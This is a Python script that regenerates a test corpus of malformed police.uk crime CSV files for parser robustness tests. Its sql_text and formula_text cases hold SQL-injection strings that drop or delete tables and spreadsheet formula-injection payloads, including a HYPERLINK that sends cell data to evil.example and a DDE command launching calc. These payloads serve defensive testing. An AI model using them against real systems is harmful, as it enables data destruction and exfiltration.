"""Regenerate the malformed police.uk deliveries of this corpus: ``python tests/data/bad_inputs/make_corpus.py``.

The files are committed (they are the corpus); this script only documents, byte for byte, how each was made,
so a case can be changed without hand-editing a latin-1 or UTF-16 file. ``MANIFEST.csv`` gives each file's
expected verdict; ``tests/unit/test_fuzz_parsers.py`` and ``tests/integration/test_bad_input_corpus.py``
check it. Every data row is placed in month 2021-06 and, unless the case says otherwise, in LSOA E01990015
of the demo region (``csp_audit_demo.region``), so a file that is accepted adds rows to that month only.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

HERE = Path(__file__).resolve().parent / "police"
HEADER = (
    "Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,"
    "Crime type,Last outcome category,Context"
)
SQL = "'); drop table raw.deliveries; --"


def crime_id(case: str, n: int) -> str:
    return hashlib.sha256(f"{case}-{n}".encode()).hexdigest()


def row(case: str, n: int, *, month: str = "2021-06", lsoa: str = "E01990015", location: str = "On or near High Street",
        crime_type: str = "Burglary", outcome: str = "Under investigation", context: str = "",
        cid: str | None = None, lsoa_name: str = '"Aldbury, Crane and Holt 001A"') -> str:  # fmt: skip
    """One CSV line; ``location``/``context``/``crime_type`` are written as given (the caller quotes)."""
    fields = [
        crime_id(case, n) if cid is None else cid, month, "Northshire Police", "Northshire Police",
        "-1.990149", "54.402797", location, lsoa, lsoa_name, crime_type, outcome, context,
    ]  # fmt: skip
    return ",".join(fields)


def lines(*items: str, end: str = "\n") -> bytes:
    return "".join(item + end for item in items).encode("utf-8")


def build() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    wrong = HEADER.replace("Last outcome category", "Outcome")
    files["wrong_header.csv"] = lines(wrong, row("wh", 1), row("wh", 2))
    files["latin1.csv"] = lines(HEADER, row("l1", 1), row("l1", 2)) + (
        row("l1", 3, location="On or near Café Street") + "\n"
    ).encode("latin-1")
    files["utf16.csv"] = "".join(f"{x}\r\n" for x in (HEADER, row("u16", 1), row("u16", 2))).encode("utf-16")
    files["bom.csv"] = b"\xef\xbb\xbf" + lines(
        HEADER, row("bom", 1), row("bom", 2), row("bom", 3), end="\r\n"
    )
    files["ragged_too_many.csv"] = lines(HEADER, row("rm", 1), row("rm", 2) + ",surplus", row("rm", 3))
    files["ragged_too_few.csv"] = lines(HEADER, row("rf", 1), row("rf", 2), row("rf", 3).rsplit(",", 1)[0])
    files["embedded_newlines_quotes.csv"] = lines(
        HEADER,
        row("nl", 1, location='"On or near ""The Crown""\r\nHigh Street"'),
        row("nl", 2, context='"first line\nsecond line, with a comma"'),
        row("nl", 3, location='"Quote at the end """'),
        end="\r\n",
    )
    files["broken_quoting.csv"] = lines(
        HEADER, row("bq", 1), row("bq", 2, location='"On or near "The Crown" Street"'), row("bq", 3)
    )
    files["unterminated_quote.csv"] = lines(
        HEADER, row("uq", 1), row("uq", 2), row("uq", 3, context='"this quote never closes')
    )
    files["nul_byte.csv"] = lines(HEADER, row("nul", 1), row("nul", 2, location="On or near\x00Street"))
    files["empty.csv"] = b""
    files["header_only.csv"] = lines(HEADER)
    files["future_and_wrong_vintage.csv"] = lines(
        HEADER,
        row("fv", 1),
        row("fv", 2),
        row("fv", 3, month="2031-06"),  # ten years ahead of the file's period
        row("fv", 4, lsoa="E01035123", lsoa_name="A 2021 LSOA 001A"),  # 2021 code: not in the 2011 lookup
        row("fv", 5, lsoa="E0103512", lsoa_name="Truncated 001A"),  # malformed code
    )
    files["sql_text.csv"] = lines(
        HEADER,
        row("sql", 1, crime_type=SQL, location=SQL, context=SQL),
        row("sql", 2, crime_type="Robert'); DROP TABLE raw.police_street_rows;--", outcome="1; select 1; --"),
        row(
            "sql", 3, crime_type='"x"" or 1=1 --"', lsoa_name='"LSOA\'; delete from audit.reconciliation; --"'
        ),
    )
    files["formula_text.csv"] = lines(
        HEADER,
        row("fx", 1, crime_type='"=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"', location="@SUM(1)"),
        row("fx", 2, crime_type="+cmd|' /C calc'!A0", context="-1+1"),
        row("fx", 3, crime_type="@SUM(1)", location="=1+1", cid="=1+1"),
        row("fx", 4, crime_type="-1+1"),
    )
    files["bad_months_and_coordinates.csv"] = lines(
        HEADER,
        row("bm", 1),
        row("bm", 2, month="01/06/2021"),  # the month written DD/MM/YYYY
        row("bm", 3, month="2021-06-31"),  # an impossible date where a month belongs
        row("bm", 4).replace("-1.990149", "1e309"),  # a longitude that overflows a double
        row("bm", 5).replace("54.402797", "NaN"),  # not a number
        row("bm", 6, month=""),  # no month at all
        row("bm", 7, crime_type=""),  # no crime type
        row("bm", 8, month=" 2021-06"),  # a padded month
    )
    return files


if __name__ == "__main__":
    HERE.mkdir(exist_ok=True)
    for name, data in build().items():
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data)} bytes")
